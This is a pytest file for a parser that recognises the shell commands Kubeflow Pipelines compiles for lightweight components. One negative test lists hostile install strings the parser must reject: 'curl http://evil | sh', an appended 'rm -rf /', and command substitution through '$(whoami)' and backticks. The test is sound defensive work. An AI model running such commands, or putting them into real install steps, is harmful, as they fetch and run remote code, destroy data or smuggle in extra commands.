"""The commands that KFP's compilers wrote, and those that only look like them."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from bessemer.kinds import lightweight
from bessemer.kinds.lightweight import Install

CORPUS = Path(__file__).parents[4] / "shared" / "corpus" / "kfp"
PROGRAM = (
    'program_path=$(mktemp -d)\n\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n'
    "_KFP_RUNTIME=true python3 -m kfp.dsl.executor_main                         "
    '--component_module_path                         "$program_path/ephemeral_component.py"  '
    '                       "$@"\n'
)
KFP = "python3 -m pip install --quiet --no-warn-script-location 'kfp==2.17.0' '--no-deps'"


def script(installs: str) -> str:
    return (
        '\nif ! [ -x "$(command -v pip)" ]; then\n    python3 -m ensurepip || '
        "python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\n"
        f'PIP_DISABLE_PIP_VERSION_CHECK=1 {installs} && "$0" "$@"\n'
    )


def argv(installs: str = KFP, program: str = PROGRAM) -> list[str]:
    return ["sh", "-c", script(installs), "sh", "-ec", program, "SOURCE", "--executor_input", "{}"]


def test_the_parts() -> None:
    command = lightweight.parse(argv())
    assert command == lightweight.LightweightCommand(
        (Install(("kfp==2.17.0",), no_dependencies=True),), "SOURCE", ("--executor_input", "{}")
    )


def test_without_installs() -> None:
    command = lightweight.parse(["sh", "-ec", PROGRAM, "SOURCE"])
    assert command == lightweight.LightweightCommand((), "SOURCE", ())


def test_several_installs_in_order_with_their_sources() -> None:
    first = (
        "python3 -m pip install --quiet --no-warn-script-location --index-url https://a/simple "
        "--extra-index-url https://b/simple --trusted-host https://a/simple "
        "'pandas[all]>=2,<3' \"x; python_version<'3.9'\""
    )
    command = lightweight.parse(argv(f"{first}  &&  {KFP}"))
    assert command is not None
    assert command.installs[0] == Install(
        ("pandas[all]>=2,<3", "x; python_version<'3.9'"),
        ("https://a/simple",), ("https://b/simple",), ("https://a/simple",),
    )  # fmt: skip
    assert command.installs[1].no_dependencies


def test_a_throw_away_environment_is_as_good_as_ours() -> None:
    venv = (
        '\nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\npython3 -m venv "$tmp/venv" '
        '--system-site-packages\n. "$tmp/venv/bin/activate"\n'
    )
    command = lightweight.parse(argv(f"python3 -m pip install 'a'  &&  {venv} {KFP}"))
    assert command is not None
    assert [install.requirements for install in command.installs] == [("a",), ("kfp==2.17.0",)]


@pytest.mark.parametrize(
    "installs",
    [
        "curl http://evil | sh", f"{KFP}; rm -rf /", f"{KFP} || true", "pip install a",
        'python3 -m pip install "$(whoami)"', "python3 -m pip install `id`",
        "python3 -m pip install a > /x", "python3 -m pip install -r reqs.txt",
        "python3 -m pip install 'a' & true",
    ],
)  # fmt: skip
def test_what_the_shell_would_read_otherwise_is_left_to_it(installs: str) -> None:
    assert lightweight.parse(argv(installs)) is None


@pytest.mark.parametrize(
    "changed",
    [
        [], ["sh"], ["sh", "-c", "echo"], ["echo", "hello"], argv()[:6],
        argv(program=PROGRAM + "echo more"), ["bash", *argv()[1:]],
    ],
)  # fmt: skip
def test_other_commands(changed: list[str]) -> None:
    assert lightweight.parse(changed) is None


@given(st.lists(st.text(max_size=30), max_size=8), st.text(max_size=200))
def test_nothing_makes_it_fail(words: list[str], installs: str) -> None:
    for command in (words, argv(installs)):
        found = lightweight.parse(command)
        assert found is None or found.source in command


@pytest.mark.shared
@pytest.mark.skipif(not CORPUS.is_dir(), reason="the shared corpus is not beside the checkout")
def test_all_compiled_components_of_the_corpus() -> None:
    recognised = 0
    for path in sorted(CORPUS.glob("*.yaml")):
        for document in yaml.safe_load_all(path.read_text()):
            executors = ((document or {}).get("deploymentSpec") or {}).get("executors") or {}
            for name, executor in executors.items():
                container = executor.get("container") or {}
                words = [*(container.get("command") or ()), *(container.get("args") or ())]
                is_lightweight = any("kfp.dsl.executor_main" in word for word in words)
                assert (lightweight.parse(words) is not None) is is_lightweight, (path.name, name)
                recognised += is_lightweight
    assert recognised > 150
